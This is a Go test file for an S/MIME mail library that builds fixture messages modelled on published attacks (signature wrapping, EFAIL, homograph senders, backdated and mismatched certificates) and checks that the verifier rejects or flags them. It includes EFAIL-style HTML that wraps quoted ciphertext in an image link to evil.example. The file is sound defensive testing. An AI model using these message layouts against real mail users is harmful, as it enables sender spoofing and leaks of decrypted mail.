package smime_test

import (
	"bytes"
	"crypto/x509"
	"io"
	"strings"

	"golang.org/x/crypto/cryptobyte"
	casn1 "golang.org/x/crypto/cryptobyte/asn1"

	"github.com/postseal/postseal/certstore"
	"github.com/postseal/postseal/internal/cms"
	"github.com/postseal/postseal/smime"
	"github.com/postseal/postseal/smime/smimetest"
)

const (
	fileFromEve   = "From: Eve <eve@evil.example>\r\n"
	fileEnveloped = "Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\n" +
		"Content-Transfer-Encoding: base64\r\n" +
		"\r\n"
)

// messageFiles are the rows A13 to A18, C01, C18, E01 to E04, E06, F05 to F07 and F09. The
// messages are made by us; where a layout was published (Johnny, EFAIL, Covert Content),
// it is made from its description.
func messageFiles(m *mimeMaker) {
	m.valid2()
	m.beside()
	m.quoted()
	m.bags()
	m.claims()
	m.evidence()
	m.ciphertext()
	m.addresses()
	m.protectedHeaders()
	m.samples()
}

// unsigned adds a message whose root nobody signed.
func (m *mimeMaker) unsigned(name, note, message string, warnings ...string) {
	m.add(&openFile{Name: name, Note: note, Twin: "valid-multipart", Verdict: smime.Unsigned, Warnings: warnings, message: message})
}

// sealed encrypts an entity to Bob.
func (m *mimeMaker) sealed(entity, cipher string) string {
	m.t.Helper()
	var der bytes.Buffer
	w, err := cms.NewEnvelopedWriter(&der, []*cms.Recipient{{Certificate: m.people.bob.Certificate()}}, cms.EnvelopeOptions{Cipher: cipher})
	if err == nil {
		_, err = io.WriteString(w, entity)
	}
	if err == nil {
		err = w.Close()
	}
	if err != nil {
		m.t.Fatal(err)
	}
	return fileEnveloped + base64Lines(der.Bytes())
}

// random marks the newest file as one that differs each time it is made.
func (m *mimeMaker) random() { m.files[len(m.files)-1].random = true }

func (m *mimeMaker) signedEntity(id *certstore.Identity, part string) string {
	return fileSigned + "\r\n" + body(part, m.signature(id, part))
}

func (m *mimeMaker) opaqueEntity(id *certstore.Identity, part string) string {
	return fileOpaque + base64Lines(opaque(m.t, id, part))
}

func (m *mimeMaker) valid2() {
	m.authentic("valid-sealed", "signed, then encrypted", fileFields+m.sealed(m.opaqueEntity(m.people.alice, filePart), "aes256-cbc"), filePart)
	m.random()
	m.authentic("valid-triple", "signed, encrypted and signed again",
		fileFields+m.opaqueEntity(m.people.alice, m.sealed(m.opaqueEntity(m.people.alice, filePart), "aes256-gcm")), filePart)
	m.random()
}

func multipart(kind string, parts ...string) string { return multipartAt("layout", kind, parts...) }

func multipartAt(boundary, kind string, parts ...string) string {
	var b strings.Builder
	b.WriteString("Content-Type: multipart/" + kind + "; boundary=" + boundary + "\r\n\r\n")
	for _, p := range parts {
		b.WriteString("--" + boundary + "\r\n" + p + "\r\n")
	}
	return b.String() + "--" + boundary + "--\r\n"
}

// beside: a part that is signed, in a message that is not (E01 to E04, E06).
func (m *mimeMaker) beside() {
	const (
		text   = "Content-Type: text/plain\r\n\r\nSend the money to 4711.\r\n"
		hiding = "Content-Type: text/html\r\n\r\n<p>Send the money to 4711.</p><style>body > :not(p) { display: none }</style><div hidden>\r\n"
		image  = "Content-Type: text/html\r\n\r\n<p>Send the money to 4711.</p><img src=\"cid:signed@good.example\">\r\n"
	)
	forms := map[string]string{"detached": m.signedEntity(m.people.alice, filePart), "opaque": m.opaqueEntity(m.people.alice, filePart)}
	for _, form := range []string{"detached", "opaque"} {
		signed := forms[form]
		for _, f := range []struct{ name, note, entity string }{
			{"e01-mixed", "text before the signed part", multipart("mixed", text, signed)},
			{"e01-alternative", "the signed part as an alternative", multipart("alternative", text, signed)},
			{"e01-nested", "text before the signed part, one level down", multipart("mixed", "Content-Type: multipart/mixed; boundary=deeper\r\n\r\n--deeper\r\n"+text+"\r\n--deeper\r\n"+signed+"\r\n--deeper--\r\n")},
			{"e02-style", "markup before the signed part hides it", multipart("mixed", hiding, signed)},
			{"e02-related", "markup hides the signed part in multipart/related", multipart("related", hiding, signed)},
			{"e03-image", "the signed part is referenced as an image", multipart("related", image, "Content-ID: <signed@good.example>\r\n"+signed)},
			{"e04-attachment", "the signed part is an attachment", multipart("mixed", text, "Content-Disposition: attachment; filename=old.eml\r\n"+signed)},
			{"e06-forwarded", "a signed message is forwarded in one that is not signed", multipart("mixed", text, "Content-Type: message/rfc822\r\n\r\n"+fileFields+signed)},
			{"e06-alone", "a signed message is all there is in one that is not", "Content-Type: message/rfc822\r\n\r\n" + fileFields + signed},
		} {
			m.unsigned(f.name+"-"+form, f.note, fileFields+f.entity, "mime.partly_protected")
		}
	}
	// What somebody else wrote does not count for less or more inside a signed message.
	forward := multipart("mixed", "\r\nsee below\r\n", "Content-Type: message/rfc822\r\n\r\n"+fileFromEve+"Subject: x\r\n\r\nI am not signed.\r\n")
	m.authentic("e06-twin-forward", "a signed message forwards one that is not", fileFields+m.opaqueEntity(m.people.alice, forward), forward)
}

// quoted: somebody else's ciphertext inside a message. Nothing of it may come out (C01, C18).
func (m *mimeMaker) quoted() {
	secret := m.sealed(m.opaqueEntity(m.people.alice, filePart), "aes256-cbc")
	const open, end = "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n", "Content-Type: text/html\r\n\r\n\">\r\n"
	const question = "Content-Type: text/plain\r\n\r\nWhat did you mean by this?\r\n"
	const cover = "Content-Type: text/html\r\n\r\n<p>Hello</p><div style=\"display: none\">\r\n"
	for _, kind := range []string{"mixed", "alternative", "related"} {
		m.add(&openFile{Name: "c01-link-" + kind, Note: "a ciphertext between two halves of a link", Twin: "valid-sealed", Verdict: smime.Unsigned,
			Warnings: []string{"mime.partly_protected"}, message: fileFields + multipart(kind, open, secret, end)})
		m.random()
	}
	for _, f := range []struct{ name, note, entity string }{
		{"c18-mixed", "a ciphertext below a question", multipart("mixed", question, secret)},
		{"c18-hidden", "a ciphertext hidden by markup", multipart("mixed", cover, secret)},
		{"c18-alternative", "a ciphertext as the alternative of a text", multipart("alternative", question, secret)},
		{"c18-related", "a ciphertext referenced by a text", multipart("related", cover, "Content-ID: <x@evil.example>\r\n"+secret)},
		{"c18-attached", "a ciphertext as an attachment", multipart("mixed", question, "Content-Disposition: attachment; filename=smime.p7m\r\n"+secret)},
		{"c18-forwarded", "a ciphertext in a forwarded message", multipart("mixed", question, "Content-Type: message/rfc822\r\n\r\n"+fileFields+secret)},
	} {
		m.add(&openFile{Name: f.name, Note: f.note, Twin: "valid-sealed", Verdict: smime.Unsigned,
			Warnings: []string{"mime.partly_protected"}, message: fileFromEve + f.entity})
		m.random()
	}
	// Eve may sign such a message. It is hers then, and the ciphertext stays one.
	entity := multipart("mixed", question, secret)
	m.authentic("c18-signed", "a ciphertext below a question, all of it signed by who asks", fileFromEve+m.opaqueEntity(m.people.eve, entity), entity)
	m.random()
}

// bags: certificates that came with a signature and do not belong to it (A14).
func (m *mimeMaker) bags() {
	signer := fileSigner(m.people.alice)
	signer.KeyID = true
	sign := func(certs ...*x509.Certificate) string {
		var b bytes.Buffer
		w, err := cms.NewSignedWriter(&b, []*cms.Signer{signer}, certs)
		if err == nil {
			_, err = io.WriteString(w, filePart)
		}
		if err == nil {
			err = w.Close()
		}
		if err != nil {
			m.t.Fatal(err)
		}
		return fileOpaque + base64Lines(b.Bytes())
	}
	alice, issuing := m.people.alice.Certificate(), m.people.alice.Intermediates()[0]
	mallory := m.people.second["same-key"].Certificate()
	fromMallory := strings.Replace(fileFields, fileFrom, "From: mallory@evil.example\r\n", 1)
	m.authentic("a14-twin-key-id", "the signer is named by key identifier", fileFields+sign(alice, issuing), filePart)
	m.authentic("a14-twin-both", "another certificate for the same key is in the bag", fileFields+sign(mallory, alice, issuing), filePart)
	m.refused("a14-same-key", "only another person's certificate for the same key is in the bag", "a14-twin-key-id", "attr.signing_certificate", fromMallory+sign(mallory))
	signer.KeyID = false
	m.refused("a14-not-there", "the named certificate is not in the bag, one for the same key is", "valid-opaque", "signer.no_certificate", fromMallory+sign(mallory))
}

// claims: what a signer, or anybody after him, says without being believed (A13, A15, A16).
func (m *mimeMaker) claims() {
	old := m.people.second["expired"]
	backdated := fileSigner(old)
	backdated.Time = old.Certificate().NotBefore.AddDate(0, 1, 0)
	var b bytes.Buffer
	w, err := cms.NewSignedWriter(&b, []*cms.Signer{backdated}, []*x509.Certificate{old.Certificate()})
	if err == nil {
		_, err = io.WriteString(w, filePart)
	}
	if err == nil {
		err = w.Close()
	}
	if err != nil {
		m.t.Fatal(err)
	}
	m.refused("a13-back-dated", "a certificate that has expired, with a signing time when it had not", "valid-opaque", "time.expired",
		fileFields+fileOpaque+base64Lines(b.Bytes()))
	der := opaque(m.t, m.people.alice, filePart)
	// signing-time of 1999, and a countersignature that is no SignerInfo.
	time1999 := "\x30\x1c\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x09\x05\x31\x0f\x17\x0d990101000000Z"
	counter := "\x30\x10\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x09\x06\x31\x03\x02\x01\x01"
	m.authentic("a15-unsigned-time", "a signing time among the unsigned attributes", fileFields+fileOpaque+base64Lines(m.withUnsigned(der, time1999)), filePart)
	m.authentic("a15-countersignature", "a countersignature that is none", fileFields+fileOpaque+base64Lines(m.withUnsigned(der, counter)), filePart)
	authenticated := "\x30\x7d\x06\x0b\x2a\x86\x48\x86\xf7\x0d\x01\x09\x10\x01\x02\xa0\x6e\x30\x6c\x02\x01\x00\x31\x08\xa4\x06\x06\x02\x2a\x03\x05\x00\x30\x0a\x06\x08\x2a\x86\x48\x86\xf7\x0d\x02\x09\x30\x2f\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x01\xa0\x22\x04\x20\x43\x6f" +
		"\x6e\x74\x65\x6e\x74\x2d\x54\x79\x70\x65\x3a\x20\x74\x65\x78\x74\x2f\x70\x6c\x61\x69\x6e\x0d\x0a\x0d\x0a\x68\x69\x0d\x0a\x04\x20\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55\x55"
	m.add(&openFile{Name: "a16-authenticated", Note: "AuthenticatedData, which has no place in mail", Twin: "valid-opaque", Verdict: smime.NotAuthentic,
		Codes: []string{"cms.unsupported"}, message: fileFields + fileOpaque + base64Lines([]byte(authenticated))})
}

// withUnsigned adds an unsigned attribute to the only signer of SignedData.
func (m *mimeMaker) withUnsigned(der []byte, attribute string) []byte {
	var info, explicit, data, infos, si, content cryptobyte.String
	in := cryptobyte.String(der)
	if !in.ReadASN1(&info, casn1.SEQUENCE) || !info.ReadASN1Element(&content, casn1.OBJECT_IDENTIFIER) ||
		!info.ReadASN1(&explicit, casn1.Tag(0).ContextSpecific().Constructed()) || !explicit.ReadASN1(&data, casn1.SEQUENCE) {
		m.t.Fatal("no SignedData")
	}
	var before []cryptobyte.String
	for !data.Empty() {
		var e cryptobyte.String
		var tag casn1.Tag
		if !data.ReadAnyASN1Element(&e, &tag) {
			m.t.Fatal("no SignedData")
		}
		before = append(before, e)
	}
	last := before[len(before)-1]
	if !last.ReadASN1(&infos, casn1.SET) || !infos.ReadASN1(&si, casn1.SEQUENCE) {
		m.t.Fatal("no SignerInfo")
	}
	var b cryptobyte.Builder
	b.AddASN1(casn1.SEQUENCE, func(b *cryptobyte.Builder) {
		b.AddBytes(content)
		b.AddASN1(casn1.Tag(0).ContextSpecific().Constructed(), func(b *cryptobyte.Builder) {
			b.AddASN1(casn1.SEQUENCE, func(b *cryptobyte.Builder) {
				for _, e := range before[:len(before)-1] {
					b.AddBytes(e)
				}
				b.AddASN1(casn1.SET, func(b *cryptobyte.Builder) {
					b.AddASN1(casn1.SEQUENCE, func(b *cryptobyte.Builder) {
						b.AddBytes(si)
						b.AddASN1(casn1.Tag(1).ContextSpecific().Constructed(), func(b *cryptobyte.Builder) { b.AddBytes([]byte(attribute)) })
					})
				})
			})
		})
	})
	return b.BytesOrPanic()
}

// ciphertext: signatures and encryption in an order, or for readers, that nobody meant
// (A17, A18).
func (m *mimeMaker) ciphertext() {
	alice := m.people.alice
	m.add(&openFile{Name: "a17-opaque", Note: "only the ciphertext is signed", Twin: "valid-triple", Verdict: smime.NotAuthentic,
		Codes: []string{"sig.ciphertext_only"}, message: fileFields + m.opaqueEntity(alice, m.sealed(filePart, "aes256-gcm"))})
	m.random()
	m.add(&openFile{Name: "a17-detached", Note: "only the ciphertext is signed, beside it", Twin: "valid-triple", Verdict: smime.NotAuthentic,
		Codes: []string{"sig.ciphertext_only"}, message: fileFields + m.signedEntity(alice, m.sealed(filePart, "aes256-cbc"))})
	m.random()
	m.add(&openFile{Name: "a17-stolen", Note: "somebody signs the author's ciphertext as her own", Twin: "valid-triple", Verdict: smime.NotAuthentic,
		Codes: []string{"address.mismatch"}, message: fileFromEve + m.opaqueEntity(m.people.eve, m.sealed(m.opaqueEntity(alice, filePart), "aes256-gcm"))})
	m.random()
	protected := func(to string) string {
		return fileFrom + "To: " + to + "\r\nSubject: Greetings\r\nContent-Type: text/plain; hp=\"clear\"\r\n\r\nYou are fired.\r\n"
	}
	bobs, carols := protected("Bob <bob@good.example>"), protected("Carol <carol@good.example>")
	m.authentic("a18-twin", "a signed message to Bob, encrypted for him later", fileFields+m.sealed(m.opaqueEntity(alice, bobs), "aes256-cbc"), bobs)
	m.random()
	m.authentic("a18-forwarded", "a signed message to Carol, encrypted for Bob by somebody else", fileFields+m.sealed(m.opaqueEntity(alice, carols), "aes256-cbc"), carols).Warnings = []string{"recipient.not_named"}
	m.random()
}

// addresses: authors that look like somebody else (F05, F06).
func (m *mimeMaker) addresses() {
	alice := func(from string) string {
		return strings.Replace(fileFields, fileFrom, "From: "+from+"\r\n", 1) + m.opaqueEntity(m.people.alice, filePart)
	}
	m.authentic("f05-twin-domain-case", "the domain in capitals", alice("alice@GOOD.Example"), filePart)
	m.authentic("f05-twin-local-case", "the local part in capitals", alice("Alice@good.example"), filePart)
	for _, f := range []struct{ name, note, from string }{
		{"f05-homograph", "a Cyrillic letter in the local part", "\u0430lice@good.example"},
		{"f05-homograph-domain", "a Cyrillic letter in the domain", "alice@g\u043eod.example"},
		{"f05-a-label", "the same domain as an A-label", "alice@xn--god-fdd.example"},
		{"f05-fullwidth", "fullwidth letters in the domain", "alice@\uff47ood.example"},
		{"f05-subdomain", "a domain below the author's", "alice@mail.good.example"},
	} {
		code := "address.mismatch"
		if strings.Contains(f.from, "\uff47") {
			// UTS 46 maps them to ASCII: it is the same domain.
			m.authentic(f.name, f.note, alice(f.from), filePart)
			continue
		}
		m.refused(f.name, f.note, "f05-twin-domain-case", code, alice(f.from))
	}
	nul := m.people.second["nul"]
	m.refused("f06-nul", "an address with a NUL in the certificate", "valid-opaque", "address.absent", fileFields+m.opaqueEntity(nul, filePart))
}

// protectedHeaders: what is said about the header inside the protection (F07, F09).
func (m *mimeMaker) protectedHeaders() {
	alice := m.people.alice
	inner := fileFrom + "To: Bob <bob@good.example>\r\nSubject: Greetings\r\nContent-Type: text/plain; hp=\"clear\"\r\n\r\nhi\r\n"
	changed := strings.NewReplacer("Subject: Greetings", "Subject: Urgent", fileFrom, "From: Alice <alice@evil.example>\r\n").Replace(fileFields)
	m.authentic("f07-twin", "a protected header", fileFields+m.opaqueEntity(alice, inner), inner)
	m.authentic("f07-outer-changed", "the header outside is another", changed+m.opaqueEntity(alice, inner), inner).Warnings = []string{"from.outer_differs"}
	m.refused("f07-not-marked", "a From inside, without header protection", "f07-twin", "address.mismatch",
		changed+m.opaqueEntity(alice, strings.Replace(inner, "; hp=\"clear\"", "", 1)))
	m.refused("f07-another-inside", "the protected author is not the signer", "f07-twin", "address.mismatch",
		fileFields+m.opaqueEntity(alice, strings.Replace(inner, fileFrom, fileFromEve, 1)))
	m.refused("f07-two-inside", "two protected authors", "f07-twin", "from.several", fileFields+m.opaqueEntity(alice, fileFrom+inner))
	m.refused("f07-below", "header protection below the root of what is signed", "f07-twin", "address.mismatch",
		changed+m.opaqueEntity(alice, multipart("mixed", inner)))
	cipher := strings.Replace(inner, "Content-Type: text/plain; hp=\"clear\"", "HP-Outer: Subject: Greetings\r\nContent-Type: text/plain; hp=\"cipher\"", 1)
	m.authentic("f07-no-cipher", "hp=\"cipher\" in a message that is not encrypted", fileFields+m.opaqueEntity(alice, cipher), cipher)
	m.authentic("f07-clear-sealed", "hp=\"clear\" in a message that is encrypted", fileFields+m.sealed(m.opaqueEntity(alice, inner), "aes256-gcm"), inner)
	m.random()
	wrapped := "Content-Type: message/rfc822\r\n\r\n" + fileFields + "Content-Type: text/plain\r\n\r\nhi\r\n"
	m.authentic("f09-wrapped", "the message as message/rfc822", fileFields+m.opaqueEntity(alice, wrapped), wrapped)
	draft := strings.Replace(inner, "hp=\"clear\"", "protected-headers=\"v1\"", 1)
	m.authentic("f09-draft", "the form RFC 9788 came from", fileFields+m.opaqueEntity(alice, draft), draft)
	m.refused("f09-draft-from", "in the form RFC 9788 came from, the author outside is another", "f09-draft", "address.mismatch", changed+m.opaqueEntity(alice, draft))
}

// samples are the layouts that RFC 9788, Appendix C shows, with other words: one part, a
// multipart/alternative and attachments, signed, sealed and with a legacy display.
func (m *mimeMaker) samples() {
	alternative := multipart("alternative", "Content-Type: text/plain\r\n\r\nDear Bob,\r\n", "Content-Type: text/html\r\n\r\n<html><body><p>Dear Bob,</p></body></html>\r\n")
	bodies := map[string]string{
		"simple": "Content-Type: text/plain; charset=us-ascii\r\n\r\nDear Bob,\r\n",
		"complex": multipartAt("outermost", "mixed", alternative,
			"Content-Type: image/png\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment\r\n\r\niVBORw==\r\n"),
	}
	alice, bob := m.people.alice, m.people.bob.Certificate()
	for _, name := range []string{"simple", "complex"} {
		for _, c := range []struct {
			form     string
			composer smime.Composer
		}{
			{"signed", smime.Composer{Signers: []*certstore.Identity{alice}}},
			{"opaque", smime.Composer{Signers: []*certstore.Identity{alice}, Opaque: true}},
			{"sealed", smime.Composer{Signers: []*certstore.Identity{alice}, Opaque: true, Recipients: []*x509.Certificate{bob}}},
			{"sealed-clear", smime.Composer{Signers: []*certstore.Identity{alice}, Recipients: []*x509.Certificate{bob}, ProtectHeaders: "no-confidentiality"}},
			{"sealed-shy", smime.Composer{Signers: []*certstore.Identity{alice}, Opaque: true, Recipients: []*x509.Certificate{bob}, ProtectHeaders: "shy"}},
			{"sealed-legacy", smime.Composer{Signers: []*certstore.Identity{alice}, Opaque: true, Recipients: []*x509.Certificate{bob}, LegacyDisplay: true}},
			{"triple", smime.Composer{Signers: []*certstore.Identity{alice}, Opaque: true, Recipients: []*x509.Certificate{bob}, Triple: true}},
		} {
			c.composer.Time = smimetest.Now
			mail := composed(m.t, &c.composer, fileFields+"Keywords: dear\r\n"+bodies[name])
			msg, err := m.people.opener().Open(m.t.Context(), bytes.NewReader(mail))
			if err != nil {
				m.t.Fatal(err)
			}
			content, _ := io.ReadAll(msg.Entity())
			m.authentic("f07-sample-"+c.form+"-"+name, "a protected header, "+c.form+", "+name, string(mail), string(content))
			m.random()
		}
	}
}
